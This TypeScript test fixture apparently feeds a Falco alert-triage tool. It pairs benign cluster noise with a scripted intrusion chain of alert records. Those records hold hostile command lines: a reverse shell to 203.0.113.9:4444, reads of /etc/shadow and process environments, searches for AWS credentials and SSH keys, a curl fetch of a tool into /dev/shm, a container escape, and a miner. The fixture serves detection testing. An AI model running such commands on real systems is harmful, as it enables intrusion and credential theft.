import type { Priority } from '../../src/domain/priority.ts'

/** What happened, as one of Falco's rules tells it. `#` in the command or the file stands for a number that differs each time. */
export type Deed = {
  readonly rule: string
  readonly priority: Priority
  readonly tags: readonly string[]
  readonly type: string
  readonly process: string
  readonly command: string
  readonly file?: string
}

/** What goes on all day: the noisiest first. One of them is Critical, as noise is in real clusters. */
export const noise: readonly Deed[] = [
  deed(
    'Contact K8S API Server From Container',
    'Notice',
    'discovery',
    'connect',
    'argocd-server --port 8081',
    '10.42.3.#:40112->10.96.0.1:443',
  ),
  deed('Run shell untrusted', 'Notice', 'execution', 'execve', 'sh -c df -P /data | tail -#'),
  deed('Read sensitive file untrusted', 'Warning', 'credential_access', 'openat', 'python3 /opt/collect.py --shard #', '/etc/shadow'),
  deed(
    'Contact EC2 Instance Metadata Service',
    'Notice',
    'credential_access',
    'connect',
    'aws s3 ls',
    '10.42.1.#:39120->169.254.169.254:80',
  ),
  deed('Unexpected UDP Traffic', 'Notice', 'exfiltration', 'sendto', 'envoy -c /etc/envoy.json', '10.42.8.#:51820->10.0.0.7:8125'),
  deed('Launch Package Management Process in Container', 'Error', 'persistence', 'execve', 'pip3 install -r requirements-#.txt'),
  deed('Launch Ingress Remote File Copy Tools', 'Notice', 'command_and_control', 'execve', 'wget -qO- http://127.0.0.1:8080/healthz?n=#'),
  deed('Terminal shell in container', 'Notice', 'execution', 'execve', 'bash'),
  deed('Read environment variable from /proc files', 'Warning', 'discovery', 'openat', 'ps auxe', '/proc/#/environ'),
  deed('Drop and execute new binary in container', 'Critical', 'persistence', 'execve', '/tmp/.yarn/yarn run build --shard #'),
  deed('Clear Log Activities', 'Warning', 'defense_evasion', 'openat', 'logrotate /etc/logrotate.conf', '/var/log/app-#.log'),
  deed('Redirect STDOUT/STDIN to Network Connection', 'Notice', 'execution', 'dup2', 'inetd -f', '10.42.5.#:9100->10.0.0.9:40022'),
  deed('PTRACE attached to process', 'Warning', 'privilege_escalation', 'ptrace', 'py-spy dump --pid #'),
  deed('Execution from /dev/shm', 'Warning', 'execution', 'execve', 'ninja -v -j #', '/dev/shm/torch_#/ninja'),
]

/** One intruder, from a hole in a web server to a miner. */
export const attack: readonly Deed[] = [
  deed('Web Server Spawned Shell', 'Critical', 'execution', 'execve', 'sh -c id;uname -a'),
  deed('Reverse Shell from Web Server', 'Critical', 'execution', 'execve', 'bash -i'),
  deed('Connection to a listener of the attacker', 'Notice', 'command_and_control', 'dup2', 'bash -i', '10.42.4.9:41022->203.0.113.9:4444'),
  deed('Basic Interactive Reconnaissance', 'Notice', 'reconnaissance', 'execve', 'whoami'),
  deed('Password file read by a web server', 'Warning', 'credential_access', 'openat', 'cat /etc/shadow', '/etc/shadow'),
  deed('Environment of another process read', 'Warning', 'discovery', 'openat', 'cat /proc/1/environ', '/proc/1/environ'),
  deed('Find AWS Credentials', 'Warning', 'credential_access', 'execve', 'find / -name .aws/credentials'),
  deed('Search Private Keys or Passwords', 'Warning', 'credential_access', 'execve', 'find / -name id_rsa'),
  deed('Cloud metadata read by a shell', 'Notice', 'credential_access', 'connect', 'curl -s http://169.254.169.254/latest/meta-data/'),
  deed('Secrets listed from a container', 'Notice', 'discovery', 'connect', 'curl -sk https://10.96.0.1/api/v1/secrets'),
  deed('Tool fetched from outside', 'Notice', 'command_and_control', 'execve', 'curl -fsSL -o /dev/shm/.k http://203.0.113.9:8000/k'),
  deed('Hidden binary run from memory', 'Warning', 'execution', 'execve', '/dev/shm/.k -d', '/dev/shm/.k'),
  deed('Fileless execution via memfd_create', 'Critical', 'defense_evasion', 'execve', 'memfd:x 3'),
  deed(
    'Detect release_agent File Container Escapes',
    'Critical',
    'privilege_escalation',
    'openat',
    'sh -c echo /x',
    '/tmp/cgrp/release_agent',
  ),
  deed('Known Cryptominer Process Executed', 'Critical', 'impact', 'execve', 'xmrig -o 203.0.113.9:3333'),
]

function deed(rule: string, priority: Priority, tactic: string, type: string, command: string, file?: string): Deed {
  const process = command.split(' ')[0]?.split('/').at(-1) ?? command
  const tags = ['container', 'maturity_stable', `mitre_${tactic}`]
  return { rule, priority, tags, type, process, command, ...(file === undefined ? {} : { file }) }
}
